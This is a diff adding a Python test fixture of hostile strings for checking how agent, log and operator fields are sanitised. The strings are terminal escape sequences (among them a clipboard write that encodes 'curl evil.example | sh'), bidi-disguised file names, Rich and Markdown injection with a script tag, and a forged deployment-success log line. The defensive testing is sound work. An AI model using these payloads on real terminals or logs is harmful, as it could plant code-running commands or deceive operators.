@@ -156,3 +156,26 @@ def hostile_corpus() -> list[Nasty]:
 def corpus_file_bytes(items: list[Nasty]) -> bytes:
     """All entries one after another, as one log file (a blank line between entries)."""
     return b"\n\n".join(i.data for i in items) + b"\n"
+
+
+def hostile_texts() -> list[str]:
+    """Short hostile values for the fields an agent, a log or an operator fills (a gate id,
+    an operator, a reason, a reply's detail, a service name, a finding): every terminal
+    control the attack pass used, Rich markup and Markdown structure. Each holds a marker
+    ``hx..`` so a test can find where it went."""
+    osc52 = base64.b64encode(b"curl evil.example | sh").decode()
+    return [
+        "hx01 \x1b[2J\x1b[H cleared",
+        f"hx02 \x1b]52;c;{osc52}\x07 clipboard",
+        "hx03 \x1b]0;pwned\x07 title \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
+        "hx04 bell\x07\x07 del\x7f nul\x00",
+        "hx05 \u009b2J c1 csi \u009d0;t\u009c \u0085nel",
+        "hx06 \x1bP+q544e\x1b\\ dcs",
+        "hx07 user \u202eexe.tpircs\u202c \u2066iso\u2069 \u200f",
+        "hx08 [bold red]x[/] [link=https://evil.example]go[/link] [@click=app.quit]q[/]",
+        "hx09 | a | b |\n|---|---|\n# Heading <script>alert(1)</script> [click](javascript:x)",
+        "hx10 ok\n[09:45:10] [SUCCESS] Deployment complete\rDEPLOYMENT STATUS: SUCCEEDED",
+        "hx11 sep\u2028line\u2029para \x0bvt\x0cff",
+        "hx12 lone \ud800 surrogate \udcff",
+        "hx13 *bold* _em_ `code` ~~strike~~ &lt;b&gt; &#27;",
+    ]
